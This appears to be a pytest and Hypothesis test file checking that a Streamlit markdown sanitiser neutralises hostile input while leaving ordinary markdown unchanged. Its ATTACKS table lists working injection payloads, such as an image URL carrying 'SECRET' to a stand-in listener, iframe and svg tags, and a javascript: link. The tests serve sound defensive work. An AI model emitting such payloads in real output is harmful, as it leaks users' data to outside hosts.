"""safe_markdown / escape_text: hostile markdown comes out inert, harmless markdown unchanged.

The checker below reads markdown the way Streamlit's renderer does where it matters: CommonMark
structure (links, images, raw HTML), GitHub's bare-URL linker run over each text node after
parsing (the regexes are remark-gfm's, as bundled with Streamlit), Streamlit's `$` math test and
its `:directive[…]` syntax.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from ui.safe_markdown import escape_text, safe_markdown

READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
READER.validateLink = lambda url: True  # react-markdown parses javascript: links too
BARE_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE | re.ASCII)
BARE_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.ASCII)
# Streamlit draws math when, with code and backslash escapes blanked out, `$…$` remains.
CODE_OR_ESCAPE = re.compile(
    r"(?:^|(?<=\n)) {0,3}(`{3,}|~{3,})[\s\S]*?(?:\n[ \t]*\1|$)|(`+)[^`]*?\2|\\."
)
MATH = re.compile(r"\$\$[\s\S]*?\$\$|(?<!\$)\$(?![\s$])[^$\n]*?[^\s$]\$(?!\d)")
DIRECTIVE = re.compile(r":[a-z][a-z0-9-]*\[|(^|\n)\s*::", re.IGNORECASE)

LISTENER = "http://127.0.0.1:9/leak"


def live_parts(markdown: str) -> list[str]:
    """Everything in `markdown` a browser would fetch, follow or interpret beyond text."""
    found: list[str] = []
    tree = SyntaxTreeNode(READER.parse(markdown))
    for node in tree.walk():
        if node.type in ("link", "image", "html_inline", "html_block"):
            found.append(f"{node.type}: {node.attrs or node.content}")
        if node.type == "inline" or node.type in ("em", "strong", "s", "link"):
            for text in text_nodes(node):
                found += [f"bare url: {m.group(0)}" for m in BARE_URL.finditer(text)]
                found += [f"bare email: {m.group(0)}" for m in BARE_EMAIL.finditer(text)]
    blanked = CODE_OR_ESCAPE.sub("_", markdown)
    found += [f"math: {m.group(0)}" for m in MATH.finditer(blanked)]
    found += [f"directive: {m.group(0)}" for m in DIRECTIVE.finditer(blanked)]
    return found


def text_nodes(node: SyntaxTreeNode) -> list[str]:
    """Adjacent text (and soft line breaks) of one parent, joined as remark joins them."""
    runs, current = [], ""
    for child in node.children:
        if child.type == "text":
            current += child.content
        elif child.type == "softbreak":
            current += "\n"
        else:
            runs.append(current)
            current = ""
    return [*runs, current]


def visible_text(markdown: str) -> str:
    """The characters a reader sees (text and code), in order."""
    tree = SyntaxTreeNode(READER.parse(markdown))
    return "".join(
        n.content if n.type in ("text", "code_inline", "fence", "code_block") else " "
        for n in tree.walk()
        if n.type in ("text", "code_inline", "fence", "code_block", "softbreak", "hardbreak")
    )


ATTACKS = {
    "image": f"See ![x]({LISTENER}/img?q=SECRET) now",
    "bare url touching a code span": f"{LISTENER}/p`[``[`",
    "image with title": f'![x]({LISTENER}/img "t")',
    "image in link": f"[![x]({LISTENER}/img)]({LISTENER}/link)",
    "reference image": f"![x][r] and ![r]\n\n[r]: {LISTENER}/ref",
    "reference link": f"[x][r], [r][] and [r]\n\n[r]: <{LISTENER}/ref> 'title'",
    "inline link": f"[click]({LISTENER}/link)",
    "link with angle destination": f"[click](<{LISTENER}/a b>)",
    "javascript link": "[click](javascript:alert(1))",
    "autolink": f"<{LISTENER}/autolink>",
    "email autolink": "<bob@example.invalid>",
    "bare url": f"go to {LISTENER}/bare, now",
    "bare url in parentheses": f"(see {LISTENER}/bare).",
    "bare www": "visit www.example.invalid/path today",
    "bare email": "write to bob@example.invalid.",
    "mailto": "mailto:bob@example.invalid",
    "url split by emphasis": f"*{LISTENER}*/x and www*.example.invalid*",
    "url in strong": f"**{LISTENER}/strong**",
    "url in heading": f"# Title {LISTENER}/h",
    "url in list": f"- one {LISTENER}/li\n- two",
    "url in table": f"| a | b |\n|---|---|\n| {LISTENER}/cell | x\\|y |",
    "url in quote": f"> {LISTENER}/quote",
    "html img": f'<img src="{LISTENER}/img">',
    "html block": f'<div>\n<img src="{LISTENER}/img">\n</div>',
    "iframe": f'<iframe src="{LISTENER}/frame"></iframe>',
    "html link": f'<a href="{LISTENER}/a">x</a>',
    "svg": f'<svg><image href="{LISTENER}/svg"/></svg>',
    "entity-hidden url": f"http&#58;//127.0.0.1:9/entity and &lt;img src={LISTENER}/e&gt;",
    "escaped brackets around url": f"\\[x\\]({LISTENER}/escaped)",
    "math": "costs $5 and $x$ and $$\\href{http://127.0.0.1:9/k}{k}$$",
    "directives": ":red[colour] :blue-background[x] ::leaf\n:::container",
    "backticks in url": f"`` {LISTENER}/`a` ``",
    "url after backslash": f"\\{LISTENER}/slash",
    "uppercase scheme": "HTTP://127.0.0.1:9/upper and WWW.EXAMPLE.INVALID",
    "url with quotes": f"\"{LISTENER}/quoted\" '{LISTENER}/single'",
    "unicode mailbox": "tëst@example.invalid",
    "nested brackets": f"[a [b]]({LISTENER}/nested)",
    "code span hiding nothing": f"`{LISTENER}/code` ![x]({LISTENER}/img)",
    "fenced html": f"```\n<img src='{LISTENER}/x'>\n```",
}


@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS.keys())
def test_attacks_come_out_inert(source):
    safe = safe_markdown(source)
    assert live_parts(safe) == []


@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS.keys())
def test_checker_sees_each_attack_in_the_raw_markdown(source):
    """The checker is not blind: every attack is live before safe_markdown."""
    if source.startswith(("```", "`` ")) or source.startswith("\\["):
        pytest.skip("harmless by construction, kept as a regression case")
    assert live_parts(source)


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        (f"![x]({LISTENER}/img?q=SECRET)", f"[image: x] ({LISTENER}/img?q=SECRET)"),
        (f"[the policy]({LISTENER}/p)", f"the policy ({LISTENER}/p)"),
        (f"<{LISTENER}/a>", f"{LISTENER}/a"),
        (f"see {LISTENER}/b.", f"see {LISTENER}/b."),
        (f'<img src="{LISTENER}/c">', f'<img src="{LISTENER}/c">'),
        ("&lt;b&gt;entity&lt;/b&gt;", "<b>entity</b>"),
        ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
        ("mail bob@example.invalid", "mail bob@example.invalid"),
        ("Tree http://w.io/Tree_(data).", "Tree http://w.io/Tree_(data)."),
        ("![r]\n\n[r]: http://w.io/r", "[image: r] (http://w.io/r)"),
    ],
)
def test_every_url_stays_visible_as_text(source, shown):
    assert visible_text(safe_markdown(source)).strip() == shown


HARMLESS = [
    "Employees get **25 days** of paid annual leave per year [1], see [2, 3].",
    "*italic*, _also italic_, ***both***, ~~struck~~ and `code` with ``a`b``.",
    "- one\n- two\n  - nested *three*\n- four",
    "1. first\n2. second\n\n   more about the second\n3. third",
    "3) starts at three\n4) four",
    "# Heading\n\n## Smaller *heading*\n\nText under it.",
    "> quoted **text**\n> on two lines\n\n> another quote",
    "```python\nprint('<b>[1]</b>')  # ![x](y)\n```",
    "    indented code <b>\n\nafter",
    "| Item | Days |\n|:---|---:|\n| Leave | **25** |\n| Sick | `7` |",
    "Line one  \nhard break, then\\\nanother",
    "Prices: 5 * 3 = 15, a_b_c, 2 < 3 > 1, 50% & more; e.g. (this) {that} #tag!",
    "***\n\nAfter a rule.",
    "Tabs\tand   spaces, unicode: é, 中文, emoji 😀, dashes — and ‘quotes’.",
    "A [1] citation at the end of a line [1]\nand the next line starts with 2. not a list",
]


@pytest.mark.parametrize("source", HARMLESS)
def test_harmless_markdown_renders_exactly_the_same(source):
    assert READER.render(safe_markdown(source)) == READER.render(source)


def test_streaming_prefixes_are_inert_too():
    answer = ATTACKS["image"] + "\n\n" + ATTACKS["reference image"] + ATTACKS["autolink"]
    for end in range(len(answer) + 1):
        assert live_parts(safe_markdown(answer[:end])) == [], answer[:end]


def test_a_hostile_file_name_shows_literally():
    name = "[click](javascript:alert(1)) <b>bold<b> <img src=x> *em* :red[x] $a$ www.x.io.md"
    escaped = escape_text(name)
    assert live_parts(escaped) == []
    assert visible_text(escaped) == name


MARKDOWNISH = st.lists(
    st.sampled_from(
        [
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "`",
            "``",
            "*",
            "_",
            "~",
            "\\",
            "&",
            "#",
            "|",
            ":",
            "$",
            "-",
            "=",
            "+",
            "1.",
            "\n",
            "\n\n",
            "  \n",
            "    ",
            " ",
            "x",
            "ab",
            "http://h.io/p",
            "https://a",
            "www.a.b",
            "b@c.de",
            "&lt;",
            "&#58;",
            "&#x5B;",
            "://",
            "www",
            "@",
            ".",
            '"',
            "'",
            "{",
            "}",
            "é",
            "red[",
            "[r]: ",
            "mailto:",
        ]
    ),
    max_size=40,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(MARKDOWNISH)
def test_random_markdown_never_comes_out_live(source):
    assert live_parts(safe_markdown(source)) == []


LINE = st.text(st.characters(min_codepoint=32, max_codepoint=0x2FF), max_size=60) | MARKDOWNISH


@settings(max_examples=300, deadline=None)
@given(st.lists(LINE, min_size=1, max_size=4))
def test_escaped_text_shows_exactly_the_text_as_one_paragraph(lines):
    # The renderer folds whitespace at line ends and drops blank lines: compare like for like.
    lines = [" ".join(line.split()) for line in lines]
    text = "\n".join(line for line in lines if line)
    escaped = escape_text(text)
    assert live_parts(escaped) == []
    assert visible_text(escaped) == text.replace("\n", " ")
    if text:
        assert [n.type for n in SyntaxTreeNode(READER.parse(escaped)).children] == ["paragraph"]


@pytest.mark.parametrize(
    "line", ["- a", "+ b", "* c", "1. d", "2) e", "===", "---", "***", "> f", "# g", "| h |", "```"]
)
def test_escaped_text_never_starts_a_block(line):
    escaped = escape_text(f"first line\n{line}")
    assert [n.type for n in SyntaxTreeNode(READER.parse(escaped)).children] == ["paragraph"]
    assert visible_text(escaped) == f"first line {line}"
